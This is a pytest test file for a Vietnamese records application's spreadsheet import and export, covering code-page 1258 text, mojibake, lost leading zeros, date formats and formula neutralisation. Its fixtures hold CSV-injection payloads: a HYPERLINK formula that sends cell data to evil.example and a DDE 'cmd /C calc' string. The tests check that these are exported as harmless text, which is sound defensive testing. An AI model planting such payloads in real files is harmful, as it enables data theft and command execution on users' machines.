"""Spreadsheets that survive Excel (issue 17) and formulas neutralised (issue 16): Windows-1258 CSV,
BOMs, mojibake refused, codes with leading zeros, ISO dates in CSV, cells that would run as formulas."""

from __future__ import annotations

import csv
import unicodedata
from datetime import date

import pytest
from openpyxl import load_workbook

from plan_desktop.services.installation import Installation
from plan_desktop.services.tabular import ImportFileError, export_file, import_file
from plan_desktop.store import Query

COMM_HEADER = "date,format,venue_type,location,topic,lead_org,audience,participants,participants_female"
TONES = {"\u0300", "\u0301", "\u0303", "\u0309", "\u0323"}


def to_cp1258(text: str) -> bytes:
    """``text`` as Vietnamese Windows writes it in code page 1258: letters with ˆ ˘ ơ ư precomposed, the
    tone as a separate combining mark (the code page has no «ổ», only «ô» and a hook)."""
    out = []
    for ch in unicodedata.normalize("NFC", text):
        try:
            out.append(ch.encode("cp1258"))
            continue
        except UnicodeEncodeError:
            pass
        parts = unicodedata.normalize("NFD", ch)
        base = unicodedata.normalize("NFC", "".join(c for c in parts if c not in TONES))
        tone = "".join(c for c in parts if c in TONES)
        out.append((base + tone).encode("cp1258"))
    return b"".join(out)


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "@SUM(1+1)*cmd|' /C calc'!A0",
            "+84 912 345 678", "-Tuyên truyền tại chợ"]


def test_windows_1258_csv_from_vietnamese_excel_imports_with_composed_marks(commune, tmp_path):
    path = tmp_path / "excel.csv"
    row = "05/03/2019,talk,residential,Tổ dân phố số 3,Tuyên truyền Luật Phòng chống mại dâm,police,residents,40,21"
    raw = to_cp1258(f"{COMM_HEADER}\r\n{row}\r\n")
    with pytest.raises(UnicodeDecodeError):
        raw.decode("utf-8")  # really not UTF-8
    assert "\u0309".encode("cp1258") in raw  # and the tone really is a separate mark
    path.write_bytes(raw)
    result = import_file(commune.records(), "communication", path)
    assert result.ok, result.errors
    rec = next(commune.store.rows(commune.store.forms["communication"]))
    assert rec["location"] == "Tổ dân phố số 3" and unicodedata.is_normalized("NFC", rec["topic"])
    assert rec["topic"] == "Tuyên truyền Luật Phòng chống mại dâm"


def test_utf8_read_as_a_code_page_and_saved_again_is_refused(commune, tmp_path):
    mangled = "Tổ dân phố".encode().decode("cp1258")
    assert mangled == "Tá»• dĂ¢n phá»‘"
    path = tmp_path / "mojibake.csv"
    path.write_text(f"{COMM_HEADER}\n05/03/2019,talk,residential,{mangled},Chủ đề,police,residents,4,2\n",
                    encoding="utf-8-sig")
    result = import_file(commune.records(), "communication", path)
    assert result.errors == [f"dòng 2, Thôn/xóm, địa điểm: «{mangled}» bị lỗi mã hóa ký tự (có lẽ là «Tổ dân phố»): "
                             "tệp đã được mở và lưu sai bảng mã. Hãy sửa lại chữ, hoặc trong Excel lưu dạng "
                             "«CSV UTF-8»."]
    assert commune.store.count(commune.store.forms["communication"]) == 0


def test_a_missing_required_column_is_one_message(commune, tmp_path):
    path = tmp_path / "thieu.csv"
    lines = ["format,venue_type,topic,lead_org,audience"] + ["talk,residential,Chủ đề,police,residents"] * 50
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    with pytest.raises(ImportFileError) as exc:
        import_file(commune.records(), "communication", path)
    assert str(exc.value).startswith("Tệp thiếu cột bắt buộc của biểu mẫu «Hoạt động truyền thông»: "
                                     "Ngày thực hiện (date).")
    assert exc.value.text("en").startswith("The file lacks required columns")


def test_a_duplicate_row_names_the_line_it_repeats(commune, tmp_path):
    path = tmp_path / "trung.csv"
    path.write_text("year,healthy\n\n2018,có\n2019,không\n\n2018,có\n", encoding="utf-8")
    result = import_file(commune.records(), "unit_status", path)
    assert result.errors == ["dòng 6, Năm: trùng với dòng 3 ở trên."]


def _formula_records(commune):
    svc = commune.records()
    est = svc.create("establishment", {"name": FORMULAS[0], "kind": "karaoke", "licence_no": "0700786453",
                                       "address": FORMULAS[1], "owner_name": FORMULAS[2], "opened_on": "2019-01-15"})
    svc.create("inspection", {"date": "2019-05-20", "establishment": est["id"], "record_no": "0012",
                              "violation": True, "violation_desc": FORMULAS[3], "action": "warning"})
    return est


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_formulas_are_written_as_text_and_import_back_to_the_same_values(commune, tmp_path, suffix):
    _formula_records(commune)
    other = Installation.init(tmp_path / "other", "13597", officer="Lê Văn Nam")
    try:
        for form_id in ("establishment", "inspection"):
            form = commune.store.forms[form_id]
            path = tmp_path / f"{form_id}{suffix}"
            export_file(commune.store, form, Query(), path)
            if suffix == ".csv":
                raw = path.read_bytes()
                assert raw.startswith(b"\xef\xbb\xbf")  # the BOM
                cells = [c for row in csv.reader(raw.decode("utf-8-sig").splitlines()) for c in row]
                assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]  # nothing a spreadsheet runs
                assert "'" + FORMULAS[0] in cells or form_id != "establishment"
            else:
                ws = load_workbook(path).worksheets[0]
                cells = [c for row in ws.iter_rows() for c in row]
                assert not [c for c in cells if c.data_type == "f"]
                texts = {c.value: c for c in cells if isinstance(c.value, str)}
                if form_id == "establishment":
                    assert texts[FORMULAS[0]].quotePrefix and texts["0700786453"].number_format == "@"
                else:
                    assert texts["0012"].data_type == "s" and texts["0012"].number_format == "@"
            result = import_file(other.records(), form_id, path)
            assert result.ok, result.errors
        est = next(other.store.rows(other.store.forms["establishment"]))
        assert [est["name"], est["address"], est["owner_name"]] == FORMULAS[:3]
        assert est["licence_no"] == "0700786453"
        insp = next(other.store.rows(other.store.forms["inspection"]))
        assert insp["violation_desc"] == FORMULAS[3] and insp["record_no"] == "0012"
    finally:
        other.close()


def test_csv_dates_are_iso_so_no_locale_swaps_day_and_month(commune, tmp_path):
    commune.records().create("plan_document", {"doc_no": "15/KH-UBND", "issued_on": "2019-02-03",
                                               "title": "Kế hoạch năm 2019"})
    path = tmp_path / "kh.csv"
    export_file(commune.store, commune.store.forms["plan_document"], Query(), path)
    rows = list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))
    assert rows[1][rows[0].index("Ngày ban hành")] == "2019-02-03"
    xlsx = tmp_path / "kh.xlsx"
    export_file(commune.store, commune.store.forms["plan_document"], Query(), xlsx)
    ws = load_workbook(xlsx).worksheets[0]
    cell = ws.cell(row=2, column=[c.value for c in ws[1]].index("Ngày ban hành") + 1)
    assert cell.is_date and cell.value.date() == date(2019, 2, 3) and cell.number_format == "dd/mm/yyyy"


def test_a_code_that_lost_its_leading_zeros_in_a_spreadsheet_is_refused(commune, tmp_path):
    est = _formula_records(commune)
    path = tmp_path / "cs.csv"
    export_file(commune.store, commune.store.forms["establishment"], Query(), path)
    rows = list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))
    col = rows[0].index("Số giấy phép")
    rows[1][col] = "700786453"  # what Excel makes of the cell when the file is opened and saved
    with path.open("w", encoding="utf-8-sig", newline="") as fh:
        csv.writer(fh).writerows(rows)
    result = import_file(commune.records(), "establishment", path)
    assert result.errors == ["dòng 2, Số giấy phép: «700786453» đã mất số 0 ở đầu (đang lưu «0700786453»): bảng "
                             "tính đã đổi ô thành số. Định dạng cột là Văn bản (Text), gõ lại «0700786453» rồi "
                             "nhập lại."]
    assert commune.records().get("establishment", est["id"])["licence_no"] == "0700786453"


# -- through a real spreadsheet program ------------------------------------------------------------------------
SOFFICE = __import__("shutil").which("soffice")
needs_soffice = pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed")


def _soffice(tmp_path, out_dir, *args):
    import subprocess

    profile = (tmp_path / "lo-profile").as_uri()
    subprocess.run([SOFFICE, f"-env:UserInstallation={profile}", "--headless", *args, "--outdir", str(out_dir)],
                   check=True, capture_output=True, timeout=180)


@needs_soffice
def test_xlsx_saved_again_by_libreoffice_imports_to_the_same_values(commune, tmp_path):
    _formula_records(commune)
    other = Installation.init(tmp_path / "other", "13597", officer="Lê Văn Nam")
    try:
        paths = []
        for form_id in ("establishment", "inspection"):
            paths.append(tmp_path / f"{form_id}.xlsx")
            export_file(commune.store, commune.store.forms[form_id], Query(), paths[-1])
        _soffice(tmp_path, tmp_path / "saved", "--convert-to", "xlsx", *map(str, paths))
        for form_id in ("establishment", "inspection"):
            result = import_file(other.records(), form_id, tmp_path / "saved" / f"{form_id}.xlsx")
            assert result.ok, result.errors
            for form_id_ in (form_id,):
                form = commune.store.forms[form_id_]
                mine = {r["id"]: commune.store.to_values(form, r) for r in commune.store.rows(form)}
                theirs = {r["id"]: other.store.to_values(form, r) for r in other.store.rows(form)}
                assert {k: {f.name: v[f.name] for f in form.fields} for k, v in theirs.items()} == {
                    k: {f.name: v[f.name] for f in form.fields} for k, v in mine.items()}
    finally:
        other.close()


@needs_soffice
def test_csv_saved_again_by_libreoffice_keeps_formulas_as_text_and_lost_zeros_are_refused(commune, tmp_path):
    est = _formula_records(commune)
    path = tmp_path / "establishment.csv"
    export_file(commune.store, commune.store.forms["establishment"], Query(), path)
    _soffice(tmp_path, tmp_path / "saved", "--infilter=CSV:44,34,76,1",
             "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1", str(path))
    saved = tmp_path / "saved" / "establishment.csv"
    text = saved.read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in text and ",700786453," in text  # the spreadsheet dropped the zero, kept the text
    result = import_file(commune.records(), "establishment", saved)
    assert result.errors and "«700786453» đã mất số 0 ở đầu (đang lưu «0700786453»)" in result.errors[0]
    assert commune.records().get("establishment", est["id"])["licence_no"] == "0700786453"
    fixed = tmp_path / "fixed.csv"
    fixed.write_text(text.replace(",700786453,", ",0700786453,"), encoding="utf-8-sig")
    result = import_file(commune.records(), "establishment", fixed)
    assert result.ok and (result.created, result.updated) == (0, 0)  # the formulas came back unchanged


def test_an_import_applies_the_form_s_cross_field_rules(commune, tmp_path):
    path = tmp_path / "tt.csv"
    path.write_text(f"{COMM_HEADER}\n05/03/2019,talk,residential,Thôn Đông,Chủ đề,police,residents,,80\n"
                    "06/03/2019,talk,residential,Thôn Đông,Chủ đề,police,residents,-5,\n", encoding="utf-8")
    result = import_file(commune.records(), "communication", path)
    assert result.errors == ["dòng 2, Trong đó nữ: chỉ nhập được khi đã nhập «Số người tham dự».",
                             "dòng 3, Số người tham dự: không được là số âm."]
    path.write_text("detected_on,status\n2019-06-02,Đã xử lý\n2019-06-03,\n", encoding="utf-8")
    result = import_file(commune.records(), "case", path)
    assert result.errors == ["dòng 2, Ngày kết thúc: bắt buộc phải nhập khi «Trạng thái» là «Đã xử lý»."]
